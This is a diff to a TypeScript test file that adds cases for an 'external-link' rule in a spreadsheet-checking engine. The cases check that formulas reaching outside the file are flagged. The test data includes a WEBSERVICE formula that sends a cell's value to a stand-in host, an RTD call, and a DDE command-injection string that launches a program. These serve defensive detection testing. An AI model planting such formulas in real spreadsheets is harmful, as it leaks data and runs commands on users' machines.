@@ -1,4 +1,4 @@
-import type { PartBlock, PartKind, RowsBlock } from '../../../src/engine/model/document';
+import { cellKey, type PartBlock, type PartKind, type RowsBlock } from '../../../src/engine/model/document';
 import type { FileFacts } from '../../../src/engine/model/file';
 import { createFileCheck } from '../../../src/engine/report/check-file';
 import { RULES } from '../../../src/engine/rules/index';
@@ -79,6 +79,29 @@ describe('personal-metadata', () => {
   it('looks at properties alone', () => {
     expect(told('personal-metadata', { blocks: [part('comment', 'creator: Rosa Diaz')] })).toEqual([]);
   });
+});
+
+describe('external-link', () => {
+  const formula = (written: string) =>
+    told('external-link', {
+      blocks: [{ ...rows([['a', '1']]), details: new Map([[cellKey(1, 2), { formula: written }]]) }],
+    });
+
+  it.each(['WEBSERVICE("https://x.example/?q="&A1)', 'RTD("prog.id",,"a")', "cmd|'/C calc'!A0"])(
+    'a formula that asks elsewhere: %s',
+    (written) => {
+      expect(formula(written)).toEqual([
+        expect.stringContaining(`flagged : A formula (“${written}”) fetches`),
+      ]);
+    },
+  );
+
+  it.each(['SUM(A1:A9)', 'HYPERLINK("https://x.example","more")', 'IF(A1="web|b",1,0)'])(
+    'but not %s',
+    (written) => {
+      expect(formula(written)).toEqual([]);
+    },
+  );
 });
 
 describe('what stands behind what is shown', () => {
